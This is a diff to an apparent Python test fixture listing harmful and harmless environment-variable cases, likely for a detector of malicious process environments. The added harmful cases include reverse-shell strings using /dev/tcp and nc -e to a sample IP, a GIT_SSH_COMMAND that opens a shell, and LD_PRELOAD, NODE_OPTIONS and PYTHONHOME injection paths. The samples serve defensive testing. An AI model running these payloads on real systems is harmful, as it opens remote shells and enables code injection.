@@ -91,6 +91,14 @@ HARMFUL: tuple[tuple[tuple[str, ...], dict[str, str]], ...] = (
     (("sleep", "9"), {"LD_AUDIT": "/dev/shm/a.so"}),
     (("sleep", "9"), {"OPENSSL_CONF": "/dev/shm/o.cnf"}),
     (("java", "-jar", "/x.jar"), {"JAVA_TOOL_OPTIONS": "-agentpath:/dev/shm/a.so"}),
+    (("sleep", "9"), {"E": "(exec 9<>/dev/tcp/1.2.3.4/9; sh <&9 >&9)"}),
+    (("sleep", "9"), {"R": "nc 1.2.3.4 9 -e /bin/sh"}),
+    (("python3", "x.py"), {"PYTHONHOME": "/dev/shm/py"}),
+    (("sleep", "9"), {"S": "#!/bin/bash\nbash -i >& /dev/tcp/1.2.3.4/9 0>&1\n"}),
+    (("sleep", "9"), {"D": "eval(atob('ZmV0Y2goJ2h0dHA6Ly94Jyk='))"}),
+    (("sleep", "9"), {"LD_PRELOAD": "/usr/lib/libfoo.so:/dev/shm/x.so"}),
+    (("node", "x.js"), {"NODE_OPTIONS": "-r /proc/self/fd/4"}),
+    (("git", "pull"), {"GIT_SSH_COMMAND": "sh -c 'nc 1.2.3.4 9 -e sh'"}),
 )
 
 HARMLESS: tuple[tuple[tuple[str, ...], dict[str, str]], ...] = (
@@ -307,4 +315,27 @@ HARMLESS: tuple[tuple[tuple[str, ...], dict[str, str]], ...] = (
     (("sleep", "9"), {"TRAEFIK_RULE": "Host(`a.b`) && PathPrefix(`/x`)"}),
     (("sleep", "9"), {"GIT_CONFIG_PARAMETERS": "'credential.helper=!f() { echo username=x; }; f'"}),
     (("sleep", "9"), {"VAULT_CMD": "vault kv get -field=x secret/y | base64 -d > /etc/y.pem"}),
+    (("sleep", "9"), {"A": 'echo ok && exec "$@"'}),
+    (("sleep", "9"), {"PRE": "test -f /run/x || touch /run/x"}),
+    (("sleep", "9"), {"C": "curl -fsS http://localhost/health | grep -q ok"}),
+    (
+        ("sleep", "9"),
+        {
+            "BASH_FUNC_nvm%%": '() {  [ $# -lt 1 ] && nvm --help; local a; a=$(command -v curl); eval "$(printf \'%s\' "$a")"\n}'
+        },
+    ),
+    (("sleep", "9"), {"JUPYTER_CMD": "jupyter lab --ip=0.0.0.0 --no-browser"}),
+    (
+        ("sleep", "9"),
+        {
+            "XAUTHORITY": "/run/user/1000/gdm/Xauthority",
+            "PULSE_SERVER": "unix:/run/user/1000/pulse/native",
+        },
+    ),
+    (
+        ("sleep", "9"),
+        {
+            "KUBE_TOKEN": "k8s-aws-v1.aHR0cHM6Ly9zdHMuYW1hem9uYXdzLmNvbS8/QWN0aW9uPUdldENhbGxlcklkZW50aXR5JlZlcnNpb249MjAxMS0wNi0xNSZYLUFtei1BbGdvcml0aG09QVdTNA=="
+        },
+    ),
 )
